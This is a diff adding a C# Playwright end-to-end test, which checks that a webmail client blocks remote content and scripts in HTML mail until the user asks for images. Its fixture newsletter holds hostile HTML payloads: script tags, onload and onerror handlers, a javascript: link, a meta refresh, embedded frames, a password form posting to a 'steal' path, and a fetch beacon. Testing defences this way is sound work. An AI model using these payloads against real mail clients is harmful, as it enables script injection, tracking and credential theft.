@@ -1,0 +1,95 @@
+using System.Collections.Concurrent;
+using Microsoft.Playwright;
+using Pop3Webmail.EndToEnd.Tests.Support;
+using Pop3Webmail.Testing;
+
+namespace Pop3Webmail.EndToEnd.Tests.Browser;
+
+[Collection(BrowserCollectionDefinition.Name)]
+public sealed class RemoteContentTests(WebmailFixture fixture)
+{
+    [Fact(Timeout = 60_000)]
+    public async Task AnHtmlMailReachesNoOtherOriginAndRunsNoScriptUntilImagesAreAskedFor()
+    {
+        fixture.Require();
+        await using var remote = await RemoteContentServer.StartAsync();
+        var newsletter = MessageFactory.Html("Spring newsletter", WebmailFixture.FirstDate, HostileNewsletter(remote.BaseAddress));
+        var account = fixture.CreateAccount("remote", newsletter);
+        await using var tab = await fixture.OpenTabAsync();
+        var appOrigin = tab.BaseAddress.GetLeftPart(UriPartial.Authority);
+        var offOrigin = new ConcurrentQueue<string>();
+        tab.Page.Request += (_, request) =>
+        {
+            if (!request.Url.StartsWith(appOrigin, StringComparison.Ordinal)
+                && !request.Url.StartsWith("data:", StringComparison.Ordinal) && !request.Url.StartsWith("about:", StringComparison.Ordinal))
+            {
+                offOrigin.Enqueue(request.Url);
+            }
+        };
+
+        await tab.SignInAsync(account);
+        await tab.OpenMessageAsync(newsletter.Subject);
+        var body = tab.Page.FrameLocator("iframe.mail-html-body");
+        await body.GetByText("the body text survives").WaitForAsync();
+        await WaitForBodyLoadAsync(tab.Page);
+        var blockedNotice = await tab.Page.Locator(".mail-remote-blocked").InnerTextAsync();
+        var remoteRequestsBefore = remote.Requests;
+        var offOriginBefore = offOrigin.ToArray();
+        await tab.ScreenshotAsync("message-html-blocked");
+
+        var pixel = await tab.Page.RunAndWaitForResponseAsync(
+            () => tab.Page.Locator(".mail-show-remote").ClickAsync(),
+            response => response.Url.Contains("/img/pixel.png", StringComparison.Ordinal));
+        await WaitForBodyLoadAsync(tab.Page);
+        var pixelWidth = await body.Locator("img[alt='remote pixel']").EvaluateAsync<int>("image => image.naturalWidth");
+        await tab.ScreenshotAsync("message-html-images-shown");
+        await tab.SignOutAsync();
+
+        Assert.Contains(UiText.Mail("RemoteContentBlocked"), blockedNotice, StringComparison.Ordinal);
+        Assert.Empty(remoteRequestsBefore);
+        Assert.Empty(offOriginBefore);
+        Assert.Equal(200, pixel.Status);
+        Assert.Equal(24, pixelWidth);
+        Assert.Contains("/img/pixel.png?recipient=bob", remote.Requests);
+
+        // Only images came from the other origin: no script ran, no frame, style sheet, object, form or refresh loaded.
+        Assert.All(remote.Requests, path => Assert.StartsWith("/img/", path, StringComparison.Ordinal));
+        Assert.DoesNotContain("/img/script-pixel.png", remote.Requests);
+        Assert.Empty(tab.Dialogs);
+
+        var session = await account.WaitForEndedSessionAsync(cancellationToken: TestContext.Current.CancellationToken);
+        Assert.True(session.LoggedOut);
+        Assert.Equal(1, session.Retrieved);
+    }
+
+    /// <summary>Waits until the mail body's document (a srcdoc iframe) has finished loading, subresources included.</summary>
+    private static async Task WaitForBodyLoadAsync(IPage page)
+    {
+        var frame = await (await page.Locator("iframe.mail-html-body").ElementHandleAsync()).ContentFrameAsync()
+            ?? throw new InvalidOperationException("The mail body iframe has no document.");
+        await frame.WaitForLoadStateAsync(LoadState.Load);
+    }
+
+    /// <summary>A newsletter with a tracking pixel and every way to load remote content or run script that mail has used.</summary>
+    private static string HostileNewsletter(Uri remote) => $$"""
+        <!DOCTYPE html>
+        <html><head>
+        <script>alert('head script');</script>
+        <link rel="stylesheet" href="{{remote}}style.css">
+        <style>@import url("{{remote}}import.css"); p.banner { background-image: url("{{remote}}img/background.png"); }</style>
+        <meta http-equiv="refresh" content="0; url={{remote}}refresh">
+        </head>
+        <body onload="alert('body onload')">
+        <p class="banner">Spring newsletter: the body text survives.</p>
+        <p><img src="{{remote}}img/pixel.png?recipient=bob" alt="remote pixel" width="24" height="24"></p>
+        <img src="cid:missing@example.test" onerror="alert('img onerror')" alt="broken">
+        <svg onload="alert('svg onload')"><script>alert('svg script')</script></svg>
+        <iframe src="{{remote}}frame.html"></iframe>
+        <object data="{{remote}}object.bin"></object>
+        <embed src="{{remote}}embed.bin">
+        <a href="javascript:alert('link')">Unsubscribe</a>
+        <form action="{{remote}}steal"><input name="password"><button>Send</button></form>
+        <script>fetch('{{remote}}beacon'); new Image().src = '{{remote}}img/script-pixel.png';</script>
+        </body></html>
+        """;
+}
